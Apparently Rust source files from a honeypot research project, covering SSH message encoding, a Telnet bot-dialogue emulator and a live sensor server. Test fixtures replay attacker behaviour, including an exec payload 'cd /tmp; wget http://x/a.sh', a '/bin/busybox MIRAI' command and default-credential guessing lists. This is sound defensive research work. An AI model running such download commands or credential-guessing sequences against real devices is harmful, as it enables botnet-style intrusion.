    pub mac_s2c: Vec<String>,
}

impl KexInit {
    /// The lists this implementation advertises.
    pub fn default_with_cookie(cookie: [u8; 16]) -> Self {
        Self {
            cookie,
            kex_algorithms: vec!["sim-nonce-sha256".into()],
            server_host_key_algorithms: vec!["ssh-ed25519".into()],
            encryption_c2s: vec!["none".into()],
            encryption_s2c: vec!["none".into()],
            mac_c2s: vec!["sim-sha256-16".into()],
            mac_s2c: vec!["sim-sha256-16".into()],
        }
    }
}

/// The SSH messages the dialogue state machines exchange.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Message {
    /// Orderly disconnect.
    Disconnect {
        /// Reason code (RFC 4253 §11.1).
        code: u32,
        /// Human-readable description.
        description: String,
    },
    /// `SSH_MSG_SERVICE_REQUEST`.
    ServiceRequest(String),
    /// `SSH_MSG_SERVICE_ACCEPT`.
    ServiceAccept(String),
    /// Algorithm negotiation.
    KexInit(KexInit),
    /// Keys taken into use.
    NewKeys,
    /// Client key-exchange contribution (a nonce in the stub KEX).
    KexdhInit {
        /// Client ephemeral value.
        e: Bytes,
    },
    /// Server key-exchange reply.
    KexdhReply {
        /// Server host key blob.
        host_key: Bytes,
        /// Server ephemeral value.
        f: Bytes,
        /// Signature over the exchange hash.
        signature: Bytes,
    },
    /// Password authentication attempt (`method` fixed to "password") or a
    /// "none" probe when `password` is `None`.
    UserauthRequest {
        /// Login name.
        username: String,
        /// Requested service, normally `ssh-connection`.
        service: String,
        /// Password, or `None` for the `none` method.
        password: Option<String>,
    },
    /// Authentication rejected.
    UserauthFailure {
        /// Methods that can continue.
        methods: Vec<String>,
    },
    /// Authentication accepted.
    UserauthSuccess,
    /// Open a channel.
    ChannelOpen {
        /// Channel type, e.g. `session`.
        kind: String,
        /// Sender's channel id.
        sender: u32,
        /// Initial window size.
        window: u32,
        /// Maximum packet size.
        max_packet: u32,
    },
    /// Channel open accepted.
    ChannelOpenConfirmation {
        /// Recipient's channel id (the opener's).
        recipient: u32,
        /// Sender's channel id.
        sender: u32,
        /// Initial window size.
        window: u32,
        /// Maximum packet size.
        max_packet: u32,
    },
    /// Channel open rejected.
    ChannelOpenFailure {
        /// Recipient's channel id.
        recipient: u32,
        /// Reason code.
        code: u32,
    },
    /// Channel payload bytes.
    ChannelData {
        /// Recipient's channel id.
        recipient: u32,
        /// Data.
        data: Bytes,
    },
    /// No more data will be sent.
    ChannelEof {
        /// Recipient's channel id.
        recipient: u32,
    },
    /// Channel closed.
    ChannelClose {
        /// Recipient's channel id.
        recipient: u32,
    },
    /// Channel request: `exec`, `shell`, `exit-status`, ….
    ChannelRequest {
        /// Recipient's channel id.
        recipient: u32,
        /// Request type.
        kind: String,
        /// Whether the peer wants SUCCESS/FAILURE.
        want_reply: bool,
        /// Request-specific payload (e.g. the command line for `exec`,
        /// big-endian status for `exit-status`).
        payload: Bytes,
    },
    /// Channel request succeeded.
    ChannelSuccess {
        /// Recipient's channel id.
        recipient: u32,
    },
    /// Channel request failed.
    ChannelFailure {
        /// Recipient's channel id.
        recipient: u32,
    },
}

impl Message {
    /// Serialises the message into a packet payload.
    pub fn encode(&self) -> Bytes {
        let mut b = BytesMut::new();
        match self {
            Message::Disconnect { code, description } => {
                put_u8(&mut b, num::DISCONNECT);
                put_u32(&mut b, *code);
                put_string(&mut b, description.as_bytes());
                put_string(&mut b, b""); // language tag
            }
            Message::ServiceRequest(name) => {
                put_u8(&mut b, num::SERVICE_REQUEST);
                put_string(&mut b, name.as_bytes());
            }
            Message::ServiceAccept(name) => {
                put_u8(&mut b, num::SERVICE_ACCEPT);
                put_string(&mut b, name.as_bytes());
            }
            Message::KexInit(k) => {
                put_u8(&mut b, num::KEXINIT);
                b.extend_from_slice(&k.cookie);
                let lists = [
                    &k.kex_algorithms,
                    &k.server_host_key_algorithms,
                    &k.encryption_c2s,
                    &k.encryption_s2c,
                    &k.mac_c2s,
                    &k.mac_s2c,
                ];
                for list in lists {
                    let names: Vec<&str> = list.iter().map(String::as_str).collect();
                    put_name_list(&mut b, &names);
                }
                // compression c2s/s2c and languages c2s/s2c: fixed.
                put_name_list(&mut b, &["none"]);
                put_name_list(&mut b, &["none"]);
                put_name_list(&mut b, &[]);
                put_name_list(&mut b, &[]);
                put_bool(&mut b, false); // first_kex_packet_follows
                put_u32(&mut b, 0); // reserved
            }
            Message::NewKeys => {
                put_u8(&mut b, num::NEWKEYS);
            }
            Message::KexdhInit { e } => {
                put_u8(&mut b, num::KEXDH_INIT);
                put_string(&mut b, e);
            }
            Message::KexdhReply {
                host_key,
                f,
                signature,
            } => {
                put_u8(&mut b, num::KEXDH_REPLY);
                put_string(&mut b, host_key);
                put_string(&mut b, f);
                put_string(&mut b, signature);
            }
            Message::UserauthRequest {
                username,
                service,
                password,
            } => {
                put_u8(&mut b, num::USERAUTH_REQUEST);
                put_string(&mut b, username.as_bytes());
                put_string(&mut b, service.as_bytes());
                match password {
                    Some(pw) => {
                        put_string(&mut b, b"password");
                        put_bool(&mut b, false);
                        put_string(&mut b, pw.as_bytes());
                    }
                    None => put_string(&mut b, b"none"),
                }
            }
            Message::UserauthFailure { methods } => {
                put_u8(&mut b, num::USERAUTH_FAILURE);
                let names: Vec<&str> = methods.iter().map(String::as_str).collect();
                put_name_list(&mut b, &names);
                put_bool(&mut b, false);
            }
            Message::UserauthSuccess => {
                put_u8(&mut b, num::USERAUTH_SUCCESS);
            }
            Message::ChannelOpen {
                kind,
                sender,
                window,
                max_packet,
            } => {
                put_u8(&mut b, num::CHANNEL_OPEN);
                put_string(&mut b, kind.as_bytes());
                put_u32(&mut b, *sender);
                put_u32(&mut b, *window);
                put_u32(&mut b, *max_packet);
            }
            Message::ChannelOpenConfirmation {
                recipient,
                sender,
                window,
                max_packet,
            } => {
                put_u8(&mut b, num::CHANNEL_OPEN_CONFIRMATION);
                put_u32(&mut b, *recipient);
                put_u32(&mut b, *sender);
                put_u32(&mut b, *window);
                put_u32(&mut b, *max_packet);
            }
            Message::ChannelOpenFailure { recipient, code } => {
                put_u8(&mut b, num::CHANNEL_OPEN_FAILURE);
                put_u32(&mut b, *recipient);
                put_u32(&mut b, *code);
                put_string(&mut b, b"open failed");
                put_string(&mut b, b"");
            }
            Message::ChannelData { recipient, data } => {
                put_u8(&mut b, num::CHANNEL_DATA);
                put_u32(&mut b, *recipient);
                put_string(&mut b, data);
            }
            Message::ChannelEof { recipient } => {
                put_u8(&mut b, num::CHANNEL_EOF);
                put_u32(&mut b, *recipient);
            }
            Message::ChannelClose { recipient } => {
                put_u8(&mut b, num::CHANNEL_CLOSE);
                put_u32(&mut b, *recipient);
            }
            Message::ChannelRequest {
                recipient,
                kind,
                want_reply,
                payload,
            } => {
                put_u8(&mut b, num::CHANNEL_REQUEST);
                put_u32(&mut b, *recipient);
                put_string(&mut b, kind.as_bytes());
                put_bool(&mut b, *want_reply);
                b.extend_from_slice(payload);
            }
            Message::ChannelSuccess { recipient } => {
                put_u8(&mut b, num::CHANNEL_SUCCESS);
                put_u32(&mut b, *recipient);
            }
            Message::ChannelFailure { recipient } => {
                put_u8(&mut b, num::CHANNEL_FAILURE);
                put_u32(&mut b, *recipient);
            }
        }
        b.freeze()
    }

    /// Parses a packet payload into a message.
    pub fn decode(payload: Bytes) -> Result<Message, SshError> {
        let mut p = payload;
        let tag = get_u8(&mut p)?;
        let msg = match tag {
            num::DISCONNECT => {
                let code = get_u32(&mut p)?;
                let description = get_utf8(&mut p)?;
                let _lang = get_string(&mut p)?;
                Message::Disconnect { code, description }
            }
            num::SERVICE_REQUEST => Message::ServiceRequest(get_utf8(&mut p)?),
            num::SERVICE_ACCEPT => Message::ServiceAccept(get_utf8(&mut p)?),
            num::KEXINIT => {
                if p.remaining() < 16 {
                    return Err(SshError::Decode("short KEXINIT cookie".into()));
                }
                let mut cookie = [0u8; 16];
                cookie.copy_from_slice(&p.split_to(16));
                let kex_algorithms = get_name_list(&mut p)?;
                let server_host_key_algorithms = get_name_list(&mut p)?;
                let encryption_c2s = get_name_list(&mut p)?;
                let encryption_s2c = get_name_list(&mut p)?;
                let mac_c2s = get_name_list(&mut p)?;
                let mac_s2c = get_name_list(&mut p)?;
                let _comp_c2s = get_name_list(&mut p)?;
                let _comp_s2c = get_name_list(&mut p)?;
                let _lang_c2s = get_name_list(&mut p)?;
                let _lang_s2c = get_name_list(&mut p)?;
                let _first = get_bool(&mut p)?;
                let _reserved = get_u32(&mut p)?;
                Message::KexInit(KexInit {
                    cookie,
                    kex_algorithms,
                    server_host_key_algorithms,
                    encryption_c2s,
                    encryption_s2c,
                    mac_c2s,
                    mac_s2c,
                })
            }
            num::NEWKEYS => Message::NewKeys,
            num::KEXDH_INIT => Message::KexdhInit {
                e: get_string(&mut p)?,
            },
            num::KEXDH_REPLY => Message::KexdhReply {
                host_key: get_string(&mut p)?,
                f: get_string(&mut p)?,
                signature: get_string(&mut p)?,
            },
            num::USERAUTH_REQUEST => {
                let username = get_utf8(&mut p)?;
                let service = get_utf8(&mut p)?;
                let method = get_utf8(&mut p)?;
                let password = match method.as_str() {
                    "password" => {
                        let _change = get_bool(&mut p)?;
                        Some(get_utf8(&mut p)?)
                    }
                    "none" => None,
                    other => {
                        return Err(SshError::Decode(format!("unsupported auth method {other}")))
                    }
                };
                Message::UserauthRequest {
                    username,
                    service,
                    password,
                }
            }
            num::USERAUTH_FAILURE => {
                let methods = get_name_list(&mut p)?;
                let _partial = get_bool(&mut p)?;
                Message::UserauthFailure { methods }
            }
            num::USERAUTH_SUCCESS => Message::UserauthSuccess,
            num::CHANNEL_OPEN => Message::ChannelOpen {
                kind: get_utf8(&mut p)?,
                sender: get_u32(&mut p)?,
                window: get_u32(&mut p)?,
                max_packet: get_u32(&mut p)?,
            },
            num::CHANNEL_OPEN_CONFIRMATION => Message::ChannelOpenConfirmation {
                recipient: get_u32(&mut p)?,
                sender: get_u32(&mut p)?,
                window: get_u32(&mut p)?,
                max_packet: get_u32(&mut p)?,
            },
            num::CHANNEL_OPEN_FAILURE => {
                let recipient = get_u32(&mut p)?;
                let code = get_u32(&mut p)?;
                let _desc = get_string(&mut p)?;
                let _lang = get_string(&mut p)?;
                Message::ChannelOpenFailure { recipient, code }
            }
            num::CHANNEL_DATA => Message::ChannelData {
                recipient: get_u32(&mut p)?,
                data: get_string(&mut p)?,
            },
            num::CHANNEL_EOF => Message::ChannelEof {
                recipient: get_u32(&mut p)?,
            },
            num::CHANNEL_CLOSE => Message::ChannelClose {
                recipient: get_u32(&mut p)?,
            },
            num::CHANNEL_REQUEST => {
                let recipient = get_u32(&mut p)?;
                let kind = get_utf8(&mut p)?;
                let want_reply = get_bool(&mut p)?;
                let payload = p.copy_to_bytes(p.remaining());
                Message::ChannelRequest {
                    recipient,
                    kind,
                    want_reply,
                    payload,
                }
            }
            num::CHANNEL_SUCCESS => Message::ChannelSuccess {
                recipient: get_u32(&mut p)?,
            },
            num::CHANNEL_FAILURE => Message::ChannelFailure {
                recipient: get_u32(&mut p)?,
            },
            other => return Err(SshError::Decode(format!("unknown message number {other}"))),
        };
        Ok(msg)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn roundtrip(m: Message) {
        let enc = m.encode();
        let dec = Message::decode(enc).unwrap();
        assert_eq!(dec, m);
    }

    #[test]
    fn roundtrip_all_variants() {
        roundtrip(Message::Disconnect {
            code: 11,
            description: "bye".into(),
        });
        roundtrip(Message::ServiceRequest("ssh-userauth".into()));
        roundtrip(Message::ServiceAccept("ssh-userauth".into()));
        roundtrip(Message::KexInit(KexInit::default_with_cookie([9u8; 16])));
        roundtrip(Message::NewKeys);
        roundtrip(Message::KexdhInit {
            e: Bytes::from_static(b"nonceA"),
        });
        roundtrip(Message::KexdhReply {
            host_key: Bytes::from_static(b"hostkey"),
            f: Bytes::from_static(b"nonceB"),
            signature: Bytes::from_static(b"sig"),
        });
        roundtrip(Message::UserauthRequest {
            username: "root".into(),
            service: "ssh-connection".into(),
            password: Some("vertex25ektks123".into()),
        });
        roundtrip(Message::UserauthRequest {
            username: "phil".into(),
            service: "ssh-connection".into(),
            password: None,
        });
        roundtrip(Message::UserauthFailure {
            methods: vec!["password".into()],
        });
        roundtrip(Message::UserauthSuccess);
        roundtrip(Message::ChannelOpen {
            kind: "session".into(),
            sender: 0,
            window: 1 << 20,
            max_packet: 32_768,
        });
        roundtrip(Message::ChannelOpenConfirmation {
            recipient: 0,
            sender: 1,
            window: 1 << 20,
            max_packet: 32_768,
        });
        roundtrip(Message::ChannelOpenFailure {
            recipient: 0,
            code: 2,
        });
        roundtrip(Message::ChannelData {
            recipient: 0,
            data: Bytes::from_static(b"uname -a\n"),
        });
        roundtrip(Message::ChannelEof { recipient: 0 });
        roundtrip(Message::ChannelClose { recipient: 0 });
        roundtrip(Message::ChannelRequest {
            recipient: 0,
            kind: "exec".into(),
            want_reply: true,
            payload: {
                let mut b = BytesMut::new();
                put_string(&mut b, b"cd /tmp; wget http://x/a.sh");
                b.freeze()
            },
        });
        roundtrip(Message::ChannelSuccess { recipient: 0 });
        roundtrip(Message::ChannelFailure { recipient: 0 });
    }

    #[test]
    fn unknown_message_number_is_decode_error() {
        assert!(matches!(
            Message::decode(Bytes::from_static(&[200])),
            Err(SshError::Decode(_))
        ));
    }

    #[test]
    fn unsupported_auth_method_is_rejected() {
        let mut b = BytesMut::new();
        put_u8(&mut b, num::USERAUTH_REQUEST);
        put_string(&mut b, b"root");
        put_string(&mut b, b"ssh-connection");
        put_string(&mut b, b"publickey");
        assert!(matches!(
            Message::decode(b.freeze()),
            Err(SshError::Decode(_))
        ));
    }

    #[test]
    fn truncated_kexinit_is_decode_error() {
        let mut b = BytesMut::new();
        put_u8(&mut b, num::KEXINIT);
        b.extend_from_slice(&[0u8; 8]); // half a cookie
        assert!(matches!(
            Message::decode(b.freeze()),
            Err(SshError::Decode(_))
        ));
    }
}
