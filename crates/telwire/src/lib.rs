//! `telwire` — a minimal Telnet protocol implementation (RFC 854/857/858).
//!
//! The honeynet's sensors listen on Telnet (TCP/23) as well as SSH (paper
//! §3.2): of the 635M recorded sessions, ~89M are Telnet, and the same
//! credential rules apply. IoT bots speak a very small slice of the
//! protocol — option negotiation via IAC commands, then a `login:` /
//! `Password:` prompt dialogue, then newline-terminated shell commands —
//! and that slice is what this crate implements:
//!
//! * [`codec`] — IAC escaping/parsing: commands (`WILL`/`WONT`/`DO`/
//!   `DONT`/`SB…SE`), option codes, and data/byte-255 escaping.
//! * [`server`] — the honeypot side: negotiates `ECHO`+`SGA` (the classic
//!   "character mode" pair), prompts for credentials, delegates the
//!   accept/reject decision and command execution to a handler.
//! * [`client`] — a scripted bot: answers negotiation with `DONT`/`WONT`
//!   (as the simplest IoT scanners do), supplies credentials, sends
//!   command lines.
//! * [`run_telnet_dialogue`] — the in-memory pump, mirroring
//!   `sshwire::run_dialogue`.

pub mod client;
pub mod codec;
pub mod server;

pub use client::{TelnetClient, TelnetScript};
pub use codec::{Event, TelnetCodec, IAC};
pub use server::{TelnetHandler, TelnetServer};

/// Errors surfaced by the Telnet state machines.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum TelnetError {
    /// Malformed IAC sequence.
    Protocol(String),
    /// The dialogue pump exceeded its round budget (ping-pong bug guard).
    Stalled,
}

impl std::fmt::Display for TelnetError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            TelnetError::Protocol(s) => write!(f, "telnet protocol error: {s}"),
            TelnetError::Stalled => f.write_str("telnet dialogue stalled"),
        }
    }
}

impl std::error::Error for TelnetError {}

/// The result of a completed Telnet dialogue.
#[derive(Debug, Clone)]
pub struct TelnetLog {
    /// Credential attempts: `(username, password, accepted)`.
    pub auth_log: Vec<(String, String, bool)>,
    /// Commands executed after a successful login.
    pub exec_log: Vec<String>,
    /// Raw bytes client → server.
    pub bytes_to_server: u64,
    /// Raw bytes server → client.
    pub bytes_to_client: u64,
}

/// Pumps `client` against `server` over a lossless in-memory pipe until
/// both go quiet. Returns the transcript and the handler (for the caller
/// to harvest shell observations from).
pub fn run_telnet_dialogue<H: TelnetHandler>(
    mut client: TelnetClient,
    mut server: TelnetServer<H>,
) -> Result<(TelnetLog, H), TelnetError> {
    let mut to_server_total = 0u64;
    let mut to_client_total = 0u64;
    for _ in 0..10_000 {
        let to_server = client.take_output();
        let to_client = server.take_output();
        if to_server.is_empty() && to_client.is_empty() {
            break;
        }
        if !to_server.is_empty() {
            to_server_total += to_server.len() as u64;
            server.input(&to_server)?;
        }
        if !to_client.is_empty() {
            to_client_total += to_client.len() as u64;
            client.input(&to_client)?;
        }
        if client.is_done() && server.is_closed() {
            break;
        }
    }
    let log = TelnetLog {
        auth_log: server.auth_log().to_vec(),
        exec_log: server.exec_log().to_vec(),
        bytes_to_server: to_server_total,
        bytes_to_client: to_client_total,
    };
    Ok((log, server.into_handler()))
}

#[cfg(test)]
mod tests {
    use super::*;

    struct Policy;
    impl TelnetHandler for Policy {
        fn auth(&mut self, user: &str, pass: &str) -> bool {
            user == "root" && pass != "root"
        }
        fn exec(&mut self, command: &str) -> String {
            format!("ran {command}\r\n")
        }
    }

    #[test]
    fn full_bot_dialogue() {
        let script = TelnetScript {
            logins: vec![
                ("admin".into(), "admin".into()),
                ("root".into(), "root".into()),
                ("root".into(), "vertex25ektks123".into()),
            ],
            commands: vec!["cd /tmp".into(), "/bin/busybox MIRAI".into()],
        };
        let (log, _) = run_telnet_dialogue(
            TelnetClient::new(script),
            TelnetServer::new(Policy, "svr04"),
        )
        .unwrap();
        assert_eq!(log.auth_log.len(), 3);
        assert!(!log.auth_log[0].2);
        assert!(!log.auth_log[1].2);
        assert!(log.auth_log[2].2);
        assert_eq!(
            log.exec_log,
            vec!["cd /tmp".to_string(), "/bin/busybox MIRAI".to_string()]
        );
        assert!(log.bytes_to_server > 0 && log.bytes_to_client > 0);
    }

    #[test]
    fn scouting_dialogue_never_reaches_shell() {
        let script = TelnetScript {
            logins: vec![
                ("root".into(), "root".into()),
                ("guest".into(), "guest".into()),
            ],
            commands: vec!["id".into()],
        };
        let (log, _) = run_telnet_dialogue(
            TelnetClient::new(script),
            TelnetServer::new(Policy, "svr04"),
        )
        .unwrap();
        assert!(log.auth_log.iter().all(|(_, _, ok)| !ok));
        assert!(log.exec_log.is_empty());
    }

    #[test]
    fn login_only_dialogue() {
        let script = TelnetScript {
            logins: vec![("root".into(), "dreambox".into())],
            commands: vec![],
        };
        let (log, _) = run_telnet_dialogue(
            TelnetClient::new(script),
            TelnetServer::new(Policy, "svr04"),
        )
        .unwrap();
        assert!(log.auth_log[0].2);
        assert!(log.exec_log.is_empty());
    }
}
