//! Server orchestration: listeners, sharded accept loops, supervised
//! worker pool, the stats/observability aggregator, the HTTP plane, and
//! graceful drain.
//!
//! # Engines
//!
//! Two shard engines share all of this orchestration (admission,
//! chaos, supervision, drain, capture):
//!
//! * [`Engine::Reactor`] (default) — readiness-driven: each shard owns
//!   a [`crate::reactor::Poller`] (epoll on Linux) plus a timer wheel;
//!   connections are pumped only when their socket is ready or their
//!   deadline fires. New sockets arrive through a lock-free
//!   [`crate::reactor::ShardQueue`] and an eventfd-style waker, so the
//!   accept→shard handoff takes no locks.
//! * [`Engine::Polled`] — the original scan-everything loop, kept as
//!   the measurable baseline and the fallback where no readiness API
//!   exists. Its historical fixed naps are now adaptive
//!   (spin → yield → park).
//!
//! # Crash containment
//!
//! Failures are contained at three radii. A single connection's pump
//! runs under `catch_unwind`: a poisoned session is recorded as a failed
//! session, its gate slot is released by the permit's `Drop`, and
//! `panics_caught` is bumped — the shard keeps serving its other
//! connections. If a shard thread dies anyway (a panic outside the
//! per-connection guard), the supervisor respawns it and re-homes its
//! intake queue, so the server keeps accepting at full width; the
//! panic message is reported through [`ServeReport::shard_panics`].
//! Accept/supervisor/stats threads have no respawn layer — a panic
//! there surfaces as [`ServeError::ThreadPanicked`] from
//! [`ServerHandle::join`].

use crate::conn::{now_unix, Conn, LiveHandler, SensorIdentity, SharedStore};
use crate::reactor::{
    conn_interest, Backoff, Event, Interest, Poller, PopResult, ShardQueue, TimerWheel, Waker,
};
use crate::stats::{spawn_aggregator, AggEvent, AggregatorHandle, ApiSnapshot};
use crate::{
    Admission, ChaosConfig, Engine, Gate, ServeConfig, ServeError, ServeStats, StatsSnapshot,
};
use honeypot::shell::NullStore;
use honeypot::{panic_message, AuthPolicy, Collector, CollectorError, IngestStats};
use netsim::faults::FailureInjector;
use sessiondb::{RecoveryReport, StoreOptions, StoreWriter};
use std::net::{IpAddr, SocketAddr, TcpListener, TcpStream};
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

/// Which protocol a listener serves.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Proto {
    Ssh,
    Telnet,
}

/// An admitted connection in flight from an accept thread to its shard.
/// Carries its gate permit, so a connection dropped anywhere along the
/// way (queue teardown, shard death) releases its slot.
struct Admitted {
    stream: TcpStream,
    permit: crate::GatePermit,
    client_port: u16,
    proto: Proto,
    start_unix: i64,
    seq: u64,
}

/// Maps a peer address into the record schema's IPv4 space. Real v4
/// addresses pass through. IPv6 peers are folded into the reserved
/// 240.0.0.0/8 block by FNV-1a hashing the full 16-byte address, so
/// distinct v6 clients keep distinct per-IP gate slots (and cannot
/// collide with any routable v4 peer — 240/8 is class E, never assigned).
pub fn fold_peer_ip(ip: IpAddr) -> netsim::Ipv4Addr {
    match ip {
        IpAddr::V4(v4) => {
            let o = v4.octets();
            netsim::Ipv4Addr::from_octets(o[0], o[1], o[2], o[3])
        }
        IpAddr::V6(v6) => {
            let mut h: u32 = 0x811c_9dc5;
            for b in v6.octets() {
                h ^= u32::from(b);
                h = h.wrapping_mul(0x0100_0193);
            }
            netsim::Ipv4Addr(0xF000_0000 | (h & 0x00FF_FFFF))
        }
    }
}

/// Intake side of a shard: a lock-free bounded queue plus the waker
/// that pops its reactor out of `epoll_wait`. Shared (via `Arc`) by the
/// accept threads, the shard thread, and the supervisor — so a
/// respawned shard thread picks up exactly where its predecessor left
/// off, queued connections (and their gate permits) included.
struct Intake {
    queue: ShardQueue<Admitted>,
    waker: Waker,
}

/// Everything a shard thread needs, cloneable so the supervisor can
/// hand a fresh copy to a respawned thread.
#[derive(Clone)]
struct ShardCtx {
    remote: SharedStore,
    collector: Arc<Collector>,
    stats: Arc<ServeStats>,
    shutdown: Arc<AtomicBool>,
    sensor: SensorIdentity,
    idle_timeout: Duration,
    session_timeout: Duration,
    drain_timeout: Duration,
    chaos: ChaosConfig,
    agg_tx: std::sync::mpsc::Sender<AggEvent>,
}

impl ShardCtx {
    /// Records a cleanly finished connection: convert, mirror to the
    /// live aggregator (a clone over mpsc — no locks, no blocking; a
    /// dead aggregator just fails the send), ingest into the store.
    fn record_finished(&self, conn: Conn<'_>) {
        let record = conn.finish(self.sensor, &self.stats);
        let _ = self
            .agg_tx
            .send(AggEvent::Session(Box::new(record.clone())));
        self.collector.ingest(record);
    }

    /// Records a connection whose pump panicked: plain fields only (the
    /// machine may be poisoned), same mirror + ingest path.
    fn record_failed(&self, conn: Conn<'_>) {
        self.stats.panics_caught.fetch_add(1, Ordering::Relaxed);
        let record = conn.into_failed(self.sensor);
        let _ = self
            .agg_tx
            .send(AggEvent::Session(Box::new(record.clone())));
        self.collector.ingest(record);
    }
}

/// The live serving layer. See the crate docs for the architecture.
pub struct Server;

impl Server {
    /// Binds listeners, spawns the accept/worker/stats threads, and
    /// returns a handle. Downloads resolve against [`NullStore`] (every
    /// fetch 404s), which is what a production honeypot wants.
    pub fn start(cfg: ServeConfig) -> Result<ServerHandle, ServeError> {
        Self::start_with_store(cfg, Arc::new(NullStore))
    }

    /// Like [`Server::start`] with an explicit download store (tests use
    /// this to serve known payloads).
    pub fn start_with_store(
        cfg: ServeConfig,
        remote: SharedStore,
    ) -> Result<ServerHandle, ServeError> {
        if cfg.ssh_port.is_none() && cfg.telnet_port.is_none() {
            return Err(ServeError::NoListeners);
        }

        let mut recovery = None;
        let collector = Arc::new(match &cfg.store_dir {
            Some(dir) => {
                let opts = StoreOptions {
                    rows_per_segment: cfg.rows_per_segment,
                    wal: Some(cfg.fsync),
                };
                let (writer, report) =
                    StoreWriter::with_options(dir, opts).map_err(|e| ServeError::Store {
                        message: e.to_string(),
                    })?;
                recovery = Some(report);
                Collector::with_sink(cfg.collector.clone(), Box::new(writer))
            }
            None => Collector::with_config(cfg.collector.clone()),
        });

        let mut listeners = Vec::new();
        for (port, proto) in [(cfg.ssh_port, Proto::Ssh), (cfg.telnet_port, Proto::Telnet)] {
            let Some(port) = port else { continue };
            let addr = SocketAddr::new(cfg.bind, port);
            let listener = TcpListener::bind(addr).map_err(|e| ServeError::Bind {
                addr: addr.to_string(),
                source: e,
            })?;
            listener
                .set_nonblocking(true)
                .map_err(|e| ServeError::Bind {
                    addr: addr.to_string(),
                    source: e,
                })?;
            deepen_backlog(&listener, cfg.max_connections);
            listeners.push((listener, proto));
        }

        // Fall back to the polled engine where no readiness API exists.
        let engine = if crate::reactor::poller_supported() {
            cfg.engine
        } else {
            Engine::Polled
        };

        let stats = Arc::new(ServeStats::default());
        let gate = Arc::new(Gate::new(cfg.max_connections, cfg.per_ip_limit));
        let shutdown = Arc::new(AtomicBool::new(false));
        let seq = Arc::new(AtomicU64::new(0));
        let workers = cfg.workers.max(1);

        // Each intake ring holds a generous multiple of this shard's
        // share of the connection cap, so a burst dealt unevenly never
        // wedges the accept thread on a full queue.
        let ring = (cfg.max_connections.div_ceil(workers) * 2).clamp(256, 65_536);
        let mut intakes: Vec<Arc<Intake>> = Vec::with_capacity(workers);
        for _ in 0..workers {
            intakes.push(Arc::new(Intake {
                queue: ShardQueue::with_capacity(ring),
                waker: Waker::new().map_err(|e| ServeError::Store {
                    message: format!("cannot create shard waker: {e}"),
                })?,
            }));
        }

        let mut addrs = ListenAddrs::default();
        let mut accept_threads = Vec::new();
        for (listener, proto) in listeners {
            let local = listener.local_addr().map_err(|e| ServeError::Bind {
                addr: "<bound>".into(),
                source: e,
            })?;
            match proto {
                Proto::Ssh => addrs.ssh = Some(local),
                Proto::Telnet => addrs.telnet = Some(local),
            }
            // Register as a producer *before* the thread exists, so no
            // shard can observe a closed queue during startup.
            for intake in &intakes {
                intake.queue.add_producer();
            }
            let intakes = intakes.clone();
            let stats = Arc::clone(&stats);
            let gate = Arc::clone(&gate);
            let shutdown = Arc::clone(&shutdown);
            let seq = Arc::clone(&seq);
            accept_threads.push(
                std::thread::Builder::new()
                    .name(format!("accept-{proto:?}").to_lowercase())
                    .spawn(move || {
                        accept_loop(
                            listener, proto, engine, &intakes, &stats, &gate, &shutdown, &seq,
                        )
                    })
                    .expect("spawn accept thread"),
            );
        }

        // The aggregator replaces the old dedicated stats thread: it
        // owns the periodic stderr line *and* publishes the lock-free
        // snapshots the HTTP plane reads. Shards feed it cloned records
        // over its channel; it costs nothing on the accept path.
        let aggregator = spawn_aggregator(
            Arc::clone(&stats),
            Arc::clone(&shutdown),
            cfg.recent_tail,
            cfg.stats_interval,
        );
        if let Some(report) = &recovery {
            let _ = aggregator.tx.send(AggEvent::Recovery(report.clone()));
        }
        let http = match cfg.http_port {
            Some(port) => {
                let handle = crate::http::start(
                    cfg.bind,
                    port,
                    cfg.http_workers,
                    Arc::clone(&aggregator.cell),
                    Arc::clone(&aggregator.bus),
                    Arc::clone(&shutdown),
                )?;
                addrs.http = Some(handle.addr);
                Some(handle)
            }
            None => None,
        };

        let ctx = ShardCtx {
            remote,
            collector: Arc::clone(&collector),
            stats: Arc::clone(&stats),
            shutdown: Arc::clone(&shutdown),
            sensor: SensorIdentity {
                honeypot_id: cfg.honeypot_id,
                honeypot_ip: cfg.honeypot_ip,
            },
            idle_timeout: cfg.idle_timeout,
            session_timeout: cfg.session_timeout,
            drain_timeout: cfg.drain_timeout,
            chaos: cfg.chaos,
            agg_tx: aggregator.tx.clone(),
        };
        let shard_panics: Arc<parking_lot::Mutex<Vec<String>>> =
            Arc::new(parking_lot::Mutex::new(Vec::new()));
        let supervisor = {
            let panics = Arc::clone(&shard_panics);
            std::thread::Builder::new()
                .name("shard-supervisor".into())
                .spawn(move || supervisor_loop(ctx, engine, intakes, &panics))
                .expect("spawn shard supervisor")
        };

        Ok(ServerHandle {
            addrs,
            stats,
            gate,
            shutdown,
            recovery,
            collector: Some(collector),
            accept_threads,
            supervisor: Some(supervisor),
            shard_panics,
            aggregator: Some(aggregator),
            http,
        })
    }
}

/// Bound listener addresses (with ephemeral ports resolved).
#[derive(Debug, Clone, Copy, Default)]
pub struct ListenAddrs {
    /// SSH listener, if enabled.
    pub ssh: Option<SocketAddr>,
    /// Telnet listener, if enabled.
    pub telnet: Option<SocketAddr>,
    /// Observability HTTP listener, if enabled.
    pub http: Option<SocketAddr>,
}

/// Final accounting returned by [`ServerHandle::join`].
#[derive(Debug, Clone)]
pub struct ServeReport {
    /// Serving counters at the end of the run.
    pub snapshot: StatsSnapshot,
    /// Collector fate counters (accepted/retried/dropped/quarantined).
    pub ingest: IngestStats,
    /// Records that failed validation, with no store to hold them.
    pub quarantined: usize,
    /// Panic messages from shard threads that died and were respawned.
    pub shard_panics: Vec<String>,
}

impl ServeReport {
    /// The shared text rendering: the CLI's shutdown summary. One
    /// renderer for every consumer (no format forks between `serve`
    /// exit paths).
    pub fn render(&self) -> String {
        let mut out = format!(
            "final: {}\ncollector: {} accepted, {} dropped, {} quarantined",
            self.snapshot.render(),
            self.ingest.accepted,
            self.ingest.dropped,
            self.quarantined,
        );
        for p in &self.shard_panics {
            out.push_str("\nshard panic: ");
            out.push_str(p);
        }
